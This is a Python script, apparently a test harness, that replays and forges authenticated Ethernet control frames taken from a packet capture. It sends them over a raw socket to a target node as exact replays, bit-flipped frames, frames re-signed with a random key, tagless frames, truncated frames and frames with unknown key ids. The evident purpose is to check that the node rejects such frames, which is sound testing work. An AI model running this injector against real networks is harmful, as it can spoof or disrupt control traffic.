#!/usr/bin/python3
"""Attack campaign against a control-channel node, run inside a rack host namespace.

  attack.py PCAP DST_MAC COUNT [IFACE]

Takes the genuine control frames addressed to DST_MAC from PCAP and sends COUNT hostile frames
to it: exact replays, single-bit forgeries, frames re-signed with a random key, frames with an
all-zero (missing) tag, truncated frames, and frames naming an unknown key id. Prints
"sent N" and the count per kind."""
import os
import random
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mvtag  # noqa: E402

ETH_CTRL = 0x88B5
KEYID_OFF = 14 + 4
TAG = 16


def read_pcap(path):
    data = open(path, 'rb').read()
    magic = struct.unpack('<I', data[:4])[0]
    endian = '<' if magic in (0xa1b2c3d4, 0xa1b23c4d) else '>'
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(endian + 'IIII', data[off:off + 16])
        off += 16
        yield data[off:off + incl]
        off += incl


def main():
    pcap, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    iface = sys.argv[4] if len(sys.argv) > 4 else 'eth0'
    dst_b = bytes(int(x, 16) for x in dst.split(':'))
    genuine = [f for f in read_pcap(pcap)
               if len(f) > 14 + 72 + TAG and f[:6] == dst_b and
               struct.unpack('>H', f[12:14])[0] == ETH_CTRL]
    if not genuine:
        raise SystemExit('no genuine frames to %s in %s' % (dst, pcap))
    rng = random.Random(1)
    wrong_key = os.urandom(32)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    kinds = ['replay', 'bitflip', 'wrongkey', 'notag', 'truncated', 'unknownkey']
    sent = dict.fromkeys(kinds, 0)
    for i in range(count):
        kind = kinds[i % len(kinds)]
        f = bytearray(genuine[rng.randrange(len(genuine))])
        if kind == 'bitflip':
            bit = rng.randrange(14 * 8, len(f) * 8)
            f[bit // 8] ^= 1 << (bit % 8)
        elif kind == 'wrongkey':
            f[14 + 32:14 + 40] = struct.pack('>Q', 1 << 46 | i)  # fresh counter
            body = bytes(f[:-TAG])
            f[-TAG:] = mvtag.tag(wrong_key, body)
        elif kind == 'notag':
            f[14 + 32:14 + 40] = struct.pack('>Q', 1 << 62 | i)
            f[-TAG:] = bytes(TAG)
        elif kind == 'truncated':
            f = f[:rng.randrange(16, len(f))]
        elif kind == 'unknownkey':
            f[KEYID_OFF] = (f[KEYID_OFF] + 1 + rng.randrange(254)) % 256
        s.send(bytes(f))
        sent[kind] += 1
    print('sent', count)
    for k in kinds:
        print(k, sent[k])


if __name__ == '__main__':
    main()
